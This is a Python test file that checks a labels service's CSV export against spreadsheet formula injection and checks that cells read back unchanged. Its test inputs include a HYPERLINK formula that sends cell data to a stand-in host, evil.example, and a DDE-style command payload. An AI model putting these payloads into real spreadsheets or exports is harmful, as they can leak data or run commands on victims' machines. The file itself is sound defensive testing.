"""An exported CSV file contains no formulas, and is read back unchanged."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from vidlex.service.bulk.csv_cells import guarded, unguarded
from vidlex.service.labels.files import LabelFileError, read, read_declared, write

FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")
NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0".replace("|", ""),
    "-2+3",
    "@SUM(A1:A9)",
    "'=1",
    "''+1",
    "'quoted'",
    "plain",
]


def exported(labels: list[dict[str, Any]]) -> str:
    stream = io.StringIO(newline="")
    write(stream, labels, "csv")
    return stream.getvalue()


def label(name: str, **fields: Any) -> dict[str, Any]:
    return {"id": "lbl_1", "name": name, "aliases": [], "categories": [], "parents": [], "metadata": {}, **fields}


@pytest.mark.parametrize("name", NAMES)
def test_no_cell_is_a_formula(name: str) -> None:
    text = exported([label(name, aliases=[name, "x"], categories=[name], parents=[{"id": "lbl_2", "name": name}])])
    for row in csv.reader(io.StringIO(text)):
        assert not [cell for cell in row if cell.startswith(FORMULAS)]
    (entry,) = read(io.StringIO(text), "csv")
    assert entry == {"name": name, "aliases": [name, "x"], "categories": [name], "parents": [name]}


TEXTS = st.text(st.sampled_from("=+-@'\"ab, "), min_size=1).map(str.strip).filter(bool)


@given(TEXTS, st.lists(TEXTS))
@example("'", ["'"])
@example("'-", [])
def test_files_are_read_back_unchanged(name: str, aliases: list[str]) -> None:
    text = exported([label(name, aliases=aliases, metadata={"=1": "-1"}, threshold=0.5)])
    (entry,) = read_declared(io.StringIO(text), "csv")
    assert entry == {
        "name": name,
        "aliases": aliases,
        "categories": [],
        "parents": [],
        "threshold": 0.5,
        "metadata": {"=1": "-1"},
    }


def test_a_file_written_by_hand_needs_no_quotes() -> None:
    text = "name,aliases\n-20 degrees,=b|@c\n'tis,'twas\n"
    entries = list(read(io.StringIO(text), "csv"))
    assert entries == [{"name": "-20 degrees", "aliases": ["=b", "@c"]}, {"name": "'tis", "aliases": ["'twas"]}]


@pytest.mark.parametrize("text", ["name\nred\rblue\n", "name\nred\n{}\n"])
def test_what_is_no_csv_is_refused_with_its_line(text: str) -> None:
    filled = text.replace("{}", "x" * (csv.field_size_limit() + 1))
    with pytest.raises(LabelFileError, match=r"line [23] is not CSV"):
        list(read(io.StringIO(filled, newline="\n"), "csv"))


@pytest.mark.parametrize(
    ("cell", "written", "by_bulk_runs"),
    [("=1", "'=1", "'=1"), ("'=1", "''=1", "''=1"), ("'tis", "'tis", "''tis"), ("a=1", "a=1", "a=1"), ("", "", "")],
)
def test_cells_of_earlier_files_mean_what_they_meant(cell: str, written: str, by_bulk_runs: str) -> None:
    assert (guarded(cell), unguarded(written)) == (written, cell)
    assert (guarded(cell, every_quote=True), unguarded(by_bulk_runs, every_quote=True)) == (by_bulk_runs, cell)


@given(st.text(), st.booleans())
def test_any_cell_comes_back_and_is_no_formula(cell: str, every_quote: bool) -> None:
    written = guarded(cell, every_quote=every_quote)
    assert not written.startswith(FORMULAS)
    assert unguarded(written, every_quote=every_quote) == cell
